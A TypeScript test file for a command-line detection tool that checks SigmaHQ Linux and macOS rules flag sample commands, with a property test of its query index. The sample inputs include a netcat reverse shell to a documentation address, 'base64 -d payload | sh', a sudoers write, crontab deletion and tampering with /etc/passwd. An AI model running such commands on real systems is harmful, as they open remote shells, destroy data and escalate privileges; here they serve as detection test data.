import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { EventView, TextCache } from '../../src/detect/event-view.ts';
import { parseQueries } from '../../src/detect/parse-queries.ts';
import { QueryIndex } from '../../src/detect/query-index.ts';
import { linkQueries } from '../../src/detect/query-set.ts';
import { runCli } from '../support/run-cli.ts';

const corpus = process.env['YOLO_TRIAGE_CORPUS'];
const rules = corpus === undefined ? undefined : join(corpus, 'sigma/rules');
const noRules = rules === undefined || !existsSync(rules);

/** Needs the public rules of SigmaHQ, which are not part of this project: set YOLO_TRIAGE_CORPUS. */
describe.skipIf(noRules)('the Linux and macOS rules of SigmaHQ', () => {
  const files = noRules
    ? []
    : readdirSync(rules ?? '', { recursive: true, encoding: 'utf8' }).filter((file) => file.endsWith('.yml'));

  it('load as they are', () => {
    const queries = files.flatMap((file) =>
      parseQueries(readFileSync(join(rules ?? '', file), 'utf8'), file),
    );
    expect(linkQueries(queries).events).toHaveLength(files.length);
  });

  it.each([
    ['nc -e /bin/bash 192.0.2.1 4444', 'netcat'],
    ['crontab -r', 'crontab'],
    ['sudo chattr -i /etc/passwd', 'chattr'],
    ['base64 -d payload | sh', 'base64'],
    ['osascript -e "display dialog 1"', 'applescript'],
    ['echo x > /etc/sudoers.d/dana', 'sudoers'],
  ])('find %s', async (command, word) => {
    const argv = ['explain', command, '--format', 'json', '--queries', rules ?? ''];
    const { stdout, code } = await runCli(argv);
    const found = JSON.parse(stdout).findings.map(({ queryId }: { queryId: string }) => queryId);
    expect(found.filter((id: string) => id.includes('_lnx_') || id.includes('_macos_'))).not.toEqual([]);
    expect(found.join(' ')).toContain(word);
    expect(code).toBe(0);
  });
});

describe('the index', () => {
  const words = ['curl', 'wget', 'rm', '-rf', '/etc/passwd', 'x', 'Base64', '', 'é'];
  const field = fc.constantFrom('A', 'B', 'C');
  const modifier = fc.constantFrom('', '|contains', '|startswith', '|endswith', '|re', '|contains|cased');
  const value = fc.constantFrom(...words.filter((word) => word !== ''), 'c*l', 'w?et');
  const selection = fc
    .tuple(field, modifier, fc.array(value, { minLength: 1, maxLength: 3 }))
    .map(
      ([name, how, values]) =>
        `${name}${how}: [${values.map((one) => `'${how === '|re' ? one.replace('*', '.*') : one}'`)}]`,
    );
  const condition = fc.constantFrom('a', 'a and b', 'a or b', 'a and not b', 'not a', '1 of them');
  const query = fc
    .tuple(selection, selection, condition)
    .map(([a, b, how]) => `detection:\n    a:\n        ${a}\n    b:\n        ${b}\n    condition: ${how}\n`);
  const fields = fc.dictionary(
    field,
    fc.array(fc.constantFrom(...words, 'curlwget', 'RM -RF /etc/passwd'), { maxLength: 3 }),
    {
      maxKeys: 3,
    },
  );

  it('never loses a query that matches', () => {
    fc.assert(
      fc.property(fc.array(query, { minLength: 1, maxLength: 6 }), fields, (detections, given) => {
        const queries = detections.flatMap((text, index) =>
          parseQueries(`title: T\nlogsource:\n    category: process_creation\n${text}`, `q${index}.yml`),
        );
        const { events } = linkQueries(queries);
        const logsource = { products: ['linux'], category: 'process_creation' };
        const event = { logsource, fields: given, subject: '', evidence: { path: 'a' } };
        const view = new EventView(event, new TextCache());
        const matching = events.filter(({ matcher }) => matcher.test(view));
        expect(new QueryIndex(events).candidates(view)).toEqual(expect.arrayContaining(matching));
      }),
      { numRuns: 400 },
    );
  });
});
